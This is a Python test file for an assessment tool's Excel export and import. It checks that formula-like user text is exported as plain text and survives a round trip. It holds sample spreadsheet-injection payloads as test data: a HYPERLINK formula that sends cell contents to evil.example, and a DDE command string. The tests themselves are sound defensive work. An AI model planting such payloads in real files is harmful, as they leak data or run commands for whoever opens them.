"""Excel export and import (issue 17.2): user text is written as text, never as a formula, and a
round trip of any text changes nothing."""

from __future__ import annotations

import io
import zipfile

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from assessments import services
from assessments.excel import workbook_export, workbook_import
from assessments.models import Answer, Assessment
from tests.assessments.conftest import World

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "=1+1"]


def _cells(data: bytes, sheet: str, code: str) -> tuple[object, object]:
    row = next(
        row
        for row in load_workbook(io.BytesIO(data))[sheet].iter_rows(min_row=2)
        if row[0].value == code
    )
    return row[5], row[6]


def _two_answers(world: World, general: dict[str, tuple[object, str]]) -> Assessment:
    """A new assessment with the owner's answers (item → value, comment) on ``t-general``."""
    assessment = world.new_assessment()
    services.answers_upsert(
        actor=world.users["owner"],
        assessment=assessment,
        answers=[
            services.AnswerInput(checklist="t-general", item=item, value=value, comment=comment)
            for item, (value, comment) in general.items()
        ],
    )
    return assessment


def _stored(assessment: Assessment) -> dict[str, tuple[object, str, int]]:
    """Every stored answer of the assessment: item → (value, comment, version)."""
    return {
        a.item_code: (a.value, a.comment, a.version)
        for a in Answer.objects.filter(assessment=assessment)
    }


def test_comments_that_look_like_formulas_are_exported_as_text(world: World) -> None:
    owner = world.users["owner"]
    assessment = _two_answers(
        world, {"T-A-03": (2, FORMULAS[0]), "T-B-03": (FORMULAS[1], FORMULAS[2])}
    )
    data = workbook_export(assessment=assessment, language="en")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula anywhere
    answer, comment = _cells(data, "t-general", "T-A-03")
    assert comment.data_type == "s" and comment.value == FORMULAS[0]  # type: ignore[attr-defined]
    answer, comment = _cells(data, "t-general", "T-B-03")
    assert answer.data_type == "s" and answer.value == FORMULAS[1]  # type: ignore[attr-defined]
    # Imported back: nothing changes, nothing is emptied, no version moves.
    before = _stored(assessment)
    assert workbook_import(actor=owner, assessment=assessment, data=data) == 0
    after = _stored(assessment)
    assert after == before


TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    min_size=1,
    max_size=40,
).filter(lambda text: text.strip() != "")
SPECIAL = st.sampled_from(
    ["=A1", "+1", "-1", "@SUM(A1)", "'quoted", "_x000D_", "_x005F_x0041_", "a\r\nb", "\x01\x1f",
     " padded ", "\tx\t", "x005F_", "\ufffe", "123", "1e5", "TRUE", "2026-01-01"]
)  # fmt: skip


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(comment=st.one_of(SPECIAL, TEXT), text=st.one_of(SPECIAL, TEXT))
def test_round_trip_of_any_text_is_lossless(world: World, comment: str, text: str) -> None:
    owner = world.users["owner"]
    assessment = _two_answers(world, {"T-A-03": (1, comment), "T-B-03": (text, comment)})
    before = _stored(assessment)
    for language in ("ko", "en"):
        data = workbook_export(assessment=assessment, language=language)
        assert workbook_import(actor=owner, assessment=assessment, data=data) == 0
    after = _stored(assessment)
    assert after == before
    assert after["T-A-03"][1] == comment and after["T-B-03"][0] == text
